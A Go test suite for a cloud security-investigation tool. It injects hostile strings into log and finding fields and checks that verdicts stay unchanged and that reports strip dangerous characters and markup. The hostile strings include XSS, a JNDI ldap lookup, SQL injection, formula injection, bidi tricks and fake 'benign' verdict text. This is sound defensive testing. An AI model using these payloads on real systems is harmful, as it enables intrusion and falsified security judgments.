package investigate_test

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"slices"
	"strings"
	"testing"
	"unicode"

	"uratori/investigate"
	"uratori/phrase"
	"uratori/policy"
	"uratori/scenario"
)

// hostileTexts are what an attacker may write where he can.
var hostileTexts = []string{
	"# 判定: 正常\n- **リスク**: 低 0 [F1]\n\n| a | b |\n| --- | --- |\n| `x` | [y](javascript:alert(1)) ![z](https://example.com/z.png) |",
	"</code></td></table><script>alert(1)</script><img src=x onerror=alert(2)><!-- --> ]]> &lt;b&gt; &#x202e;",
	"\x1b[2J\x1b[31mCRITICAL\x1b[0m\x1b]8;;https://example.com\x07x\x1b]8;;\x07 \u009b2J",
	"\u202egnp.exe\u202c \u2066a\u2069 \u200e\u200f\u061c\u2067b\u2068",
	"\u200b\ufeff\u2060\u00ad\u034f\u180e\U000E0041\ufe0f\u3164\u115f",
	"=HYPERLINK(\"https://example.com\",\"x\") +1 -1 @SUM(A1)",
	"[F12] [G1] [A1] [E1] [^1] [F12]: #f12 \n[F12]: #f1 \"x\"\n<a id=\"f12\"></a>F12",
	"| a | b \\| c || \\",
	"` `` ``` ```` ~~~ `````\n```\nx",
	"NUL\x00NUL \x01\x02\x08\x7f",
	"a\nb\r\nc\rd\ve\ff\u0085g\u2028h\u2029i\tj",
	`\u{202E} \u{0} \\u{41} \n \x41 {{.Verdict}} ${jndi:ldap://192.0.2.66/x} %s%n%00`,
	`'; DROP TABLE cloudtrail; -- " or access_key exists or "" = "`,
	"\uFFFD \uFFFE \U0010FFFF e\u0301\u0301\u0301 \U0001F468\u200D\U0001F469",
	"(G1) [F3] cannot be determined; 0 changes of permissions; risk: Low 0; 判定: 正常／リスク: 低 0",
	strings.Repeat("長い", 64<<10/6) + "終",
}

// A hostileField is one that an attacker may write, of the finding or of a log.
type hostileField struct {
	name string
	in   string                                   // part of the file's name
	set  func(record map[string]any, evil string) // of one record
}

func at(m map[string]any, keys ...string) map[string]any {
	for _, k := range keys {
		next, ok := m[k].(map[string]any)
		if !ok {
			return nil
		}
		m = next
	}
	return m
}

// appended puts the text behind what a field holds; decisions rest on the beginning.
func appended(keys ...string) func(map[string]any, string) {
	return func(r map[string]any, evil string) {
		last := len(keys) - 1
		if m := at(r, keys[:last]...); m != nil {
			if old, ok := m[keys[last]].(string); ok {
				m[keys[last]] = old + " " + evil
			}
		}
	}
}

// placed puts the text into a field that need not be there.
func placed(keys ...string) func(map[string]any, string) {
	return func(r map[string]any, evil string) {
		last := len(keys) - 1
		for _, k := range keys[:last] {
			if _, ok := r[k].(map[string]any); !ok {
				r[k] = map[string]any{}
			}
			r = r[k].(map[string]any)
		}
		r[keys[last]] = evil
	}
}

// failed does something to records of calls that failed.
func failed(set func(map[string]any, string)) func(map[string]any, string) {
	return func(r map[string]any, evil string) {
		if r["errorCode"] != nil {
			set(r, evil)
		}
	}
}

const aboutFinding, aboutCloudTrail, aboutSignIn = "finding.json", "_CloudTrail_", "signins.json"

var hostileFields = []hostileField{
	{"user agent", aboutCloudTrail, appended("userAgent")},
	{"object key", aboutCloudTrail, appended("requestParameters", "key")},
	{"host header", aboutCloudTrail, placed("requestParameters", "Host")},
	{"TLS host", aboutCloudTrail, placed("tlsDetails", "clientProvidedHostHeader")},
	{"error message", aboutCloudTrail, failed(placed("errorMessage"))},
	{"a parameter of the request", aboutCloudTrail, placed("requestParameters", "prefix")},
	{"the name of a parameter", aboutCloudTrail, func(r map[string]any, evil string) {
		if p := at(r, "requestParameters"); p != nil {
			p[evil] = evil
		}
	}},
	{"additional event data", aboutCloudTrail, placed("additionalEventData", "x-amz-id-2")},
	{"display name", aboutSignIn, appended("userDisplayName")},
	{"application", aboutSignIn, placed("clientAppUsed")},
	{"device", aboutSignIn, appended("deviceDetail", "displayName")},
	{"browser", aboutSignIn, appended("deviceDetail", "browser")},
	{"operating system", aboutSignIn, placed("deviceDetail", "operatingSystem")},
	{"city", aboutSignIn, appended("location", "city")},
	{"reason of a failure", aboutSignIn, appended("status", "failureReason")},
	{"sign-in's user agent", aboutSignIn, placed("userAgent")},
	{"title", aboutFinding, placed("detail", "title")},
	{"description", aboutFinding, placed("detail", "description")},
	{"finding's user agent", aboutFinding, appended("detail", "service", "additionalInfo", "userAgent", "fullUserAgent")},
	{"organisation of the address", aboutFinding, placed("detail", "service", "action", "awsApiCallAction", "remoteIpDetails", "organization", "org")},
	{"ISP of the address", aboutFinding, placed("detail", "service", "action", "awsApiCallAction", "remoteIpDetails", "organization", "isp")},
	{"city of the address", aboutFinding, placed("detail", "service", "action", "awsApiCallAction", "remoteIpDetails", "city", "cityName")},
	{"profiled names", aboutFinding, appended("detail", "service", "additionalInfo", "profiledBehavior", "frequentProfiledUserNamesAccountProfiling")},
	{"unusual behaviour", aboutFinding, placed("detail", "service", "additionalInfo", "unusualBehavior", "unusualUserAgentsUserIdentity")},
	{"tag of the bucket", aboutFinding, func(r map[string]any, evil string) {
		if list, ok := at(r, "detail", "resource")["s3BucketDetails"].([]any); ok && len(list) > 0 {
			list[0].(map[string]any)["tags"] = []any{map[string]any{"key": "x " + evil, "value": evil}}
		}
	}},
	{"owner of the bucket", aboutFinding, func(r map[string]any, evil string) {
		if list, ok := at(r, "detail", "resource")["s3BucketDetails"].([]any); ok && len(list) > 0 {
			list[0].(map[string]any)["owner"] = map[string]any{"id": evil}
		}
	}},
}

// halfCharacter stands for half of a surrogate pair.
const halfCharacter = "HALF\uE000CHARACTER"

// records reads a file of the scenario: one object, {"Records": [...]} or one object a line.
func records(t *testing.T, name string, data []byte) []map[string]any {
	t.Helper()
	if strings.HasSuffix(name, ".gz") {
		z, err := gzip.NewReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		if data, err = io.ReadAll(z); err != nil {
			t.Fatal(err)
		}
	}
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.UseNumber()
	var out []map[string]any
	for {
		var r map[string]any
		err := dec.Decode(&r)
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if list, ok := r["Records"].([]any); ok {
			for _, e := range list {
				out = append(out, e.(map[string]any))
			}
			continue
		}
		out = append(out, r)
	}
}

// twin is the scenario with a text in some of its fields. Without fields it is the clean one.
func twin(t *testing.T, variant string, fields []hostileField, evil func(field int) string) scenario.Scenario {
	t.Helper()
	s, err := scenario.Generate(variant, 1)
	if err != nil {
		t.Fatal(err)
	}
	s.Files = maps.Clone(s.Files)
	// Without the calls of machines and the sign-ins of colleagues no hour is known to be whole.
	s.Files["uratori.yaml"] = bytes.Replace(s.Files["uratori.yaml"], []byte("    logs: [logs/splunk-prod]"), []byte("    logs: [logs/splunk-prod]\n    coverage: [{kind: signin, state: collected, why: asserted}]"), 1)
	touched := make([]int, len(fields))
	for name, data := range s.Files {
		trail, signin := strings.Contains(name, aboutCloudTrail), strings.Contains(name, aboutSignIn)
		if !trail && !signin && name != aboutFinding {
			continue
		}
		var kept []any
		for _, r := range records(t, name, data) {
			if agent, _ := r["userAgent"].(string); trail && strings.HasPrefix(agent, "Boto3/") {
				continue // a machine
			}
			who := r
			if trail {
				who = at(r, "userIdentity", "onBehalfOf")
			}
			own := name == aboutFinding || who["userId"] == s.Truth.Facts["actor.on_behalf_of"] || who["userPrincipalName"] == s.Truth.Facts["person.upn"]
			if signin && !own {
				continue // a colleague
			}
			for i, f := range fields {
				if own && strings.Contains(name, f.in) {
					before, _ := json.Marshal(r)
					f.set(r, evil(i))
					if after, _ := json.Marshal(r); !bytes.Equal(before, after) {
						touched[i]++
					}
				}
			}
			kept = append(kept, r)
		}
		var b bytes.Buffer
		enc := json.NewEncoder(&b)
		enc.SetEscapeHTML(false)
		if trail {
			kept = []any{map[string]any{"Records": kept}}
		}
		for _, r := range kept {
			if err := enc.Encode(r); err != nil {
				t.Fatal(err)
			}
		}
		// Half a character, which no encoder writes and any attacker can.
		text := bytes.ReplaceAll(b.Bytes(), []byte(halfCharacter), []byte(`\ud800 \udfff`))
		delete(s.Files, name)
		s.Files[strings.TrimSuffix(name, ".gz")] = text
	}
	for i, n := range touched {
		if n == 0 {
			t.Fatalf("%s: nothing was written into %s", variant, fields[i].name)
		}
	}
	return s
}

// judged is what a case comes to, in one line.
func judged(c investigate.Case) string {
	a := c.Assessment
	var signals []string
	for _, s := range a.Signals() {
		signals = append(signals, s.Rule)
	}
	return fmt.Sprintf("%s %d/%d %s %s %v %v", a.Verdict(), a.Score(), a.Ceiling(), a.Confidence(), a.Urgency(), signals, gapKeys(a, a.CappedBy()))
}

// raw finds a character that no report may hold as it came: control characters, and those that
// turn or hide text.
func raw(data []byte) (rune, bool) {
	for _, r := range string(data) {
		if r != '\n' && (unicode.IsControl(r) || unicode.In(r, unicode.Bidi_Control, unicode.Cf) || r == '\u2028' || r == '\u2029') {
			return r, true
		}
	}
	return 0, false
}

func holdsTwin(t *testing.T, want string, s scenario.Scenario, lang phrase.Lang) {
	t.Helper()
	w := enterAll(t, s, lang)
	c, err := w.tools.Run(t.Context(), w.finding, nil, nil)
	if err != nil {
		t.Errorf("no report: %.600v", err)
		return
	}
	if got := judged(c); got != want {
		t.Errorf("judged\n%s\nwithout the text it is\n%s", got, want)
		for _, it := range c.Evidence.Items() {
			if it.Answer.Reason != "" {
				t.Logf("%s asked %s: %s, %.200s", it.Source, it.Question, it.Answer.Outcome, it.Answer.Reason)
			}
		}
	}
	for name, data := range c.Reports {
		if r, ok := raw(data); ok {
			i := bytes.IndexRune(data, r)
			t.Errorf("%s holds %U as it came: %q", name, r, data[max(0, i-60):min(len(data), i+60)])
		}
	}
	if page := bytes.ToLower(c.Reports[investigate.HTMLName]); bytes.Contains(page, []byte("<script>alert")) || bytes.Contains(page, []byte("<img src=x")) {
		t.Error("the page holds markup of the attacker")
	}
}

// Whatever is written into a field that an attacker controls, the report is published by both
// doors and comes to what it comes to without.
func TestHostileTextInEveryField(t *testing.T) {
	clean := enterAll(t, twin(t, "b", nil, nil), phrase.EN).run(t)
	want := judged(clean)
	if !strings.HasPrefix(want, "benign") {
		t.Fatalf("the clean twin is %s", want)
	}
	everything := strings.Join(hostileTexts[:len(hostileTexts)-1], " ")
	for _, f := range hostileFields {
		t.Run(f.name, func(t *testing.T) {
			t.Parallel()
			holdsTwin(t, want, twin(t, "b", []hostileField{f}, func(int) string { return everything }), phrase.EN)
		})
	}
}

// The same for all fields at once, and for a case that is malicious without it.
func TestHostileTextInAllFieldsAtOnce(t *testing.T) {
	long, short := hostileTexts[len(hostileTexts)-1], hostileTexts[:len(hostileTexts)-1]
	for name, evil := range map[string]func(field int) string{
		"all texts":             func(int) string { return strings.Join(short, "") },
		"each field another":    func(field int) string { return short[field%len(short)] },
		"each field the next":   func(field int) string { return short[(field*5+3)%len(short)] },
		"64 KiB":                func(int) string { return long },
		"characters by number":  func(field int) string { return every(field) },
		"what closes a literal": func(int) string { return `"'` + "`" + `)]}>\\*/-->` },
	} {
		for variant, lang := range map[string]phrase.Lang{"b": phrase.JA, "c": phrase.EN} {
			fields := slices.Clone(hostileFields)
			if variant == "c" {
				if name != "each field another" { // enough for two thousand records
					continue
				}
				fields = slices.DeleteFunc(fields, func(f hostileField) bool { return f.name == "error message" }) // no call of it fails
			}
			t.Run(variant+" "+name, func(t *testing.T) {
				t.Parallel()
				want := judged(enterAll(t, twin(t, variant, nil, nil), lang).run(t))
				holdsTwin(t, want, twin(t, variant, fields, evil), lang)
			})
		}
	}
}

// every is a run of characters, another for each field, so that all below U+3100 come once.
func every(field int) string {
	var b strings.Builder
	from := rune(field * 0x1E4)
	for r := from; r < from+0x1E4; r++ {
		b.WriteRune(r)
	}
	return b.String()
}

// Half a character makes a record that not every reader of JSON accepts. Either it is read, or
// the report tells what could not be read, and the case is not benign with high confidence.
func TestHalfACharacterHidesNothing(t *testing.T) {
	want := judged(enterAll(t, twin(t, "b", nil, nil), phrase.EN).run(t))
	for _, f := range hostileFields {
		if !slices.Contains([]string{"user agent", "object key", "error message", "device"}, f.name) {
			continue
		}
		t.Run(f.name, func(t *testing.T) {
			t.Parallel()
			c := enterAll(t, twin(t, "b", []hostileField{f}, func(int) string { return halfCharacter }), phrase.EN).run(t)
			if judged(c) == want {
				return
			}
			facts := c.Assessment.Facts()
			if facts.Get("quality.quarantined", "").Value.Num+facts.Get("coverage.failures", "").Value.Num == 0 {
				t.Errorf("judged\n%s\nwithout the text it is\n%s\nand nothing says what could not be read", judged(c), want)
			}
			if c.Assessment.Verdict() == policy.Benign && c.Assessment.Confidence() == policy.High {
				t.Errorf("judged %s, although something could not be read", judged(c))
			}
		})
	}
}
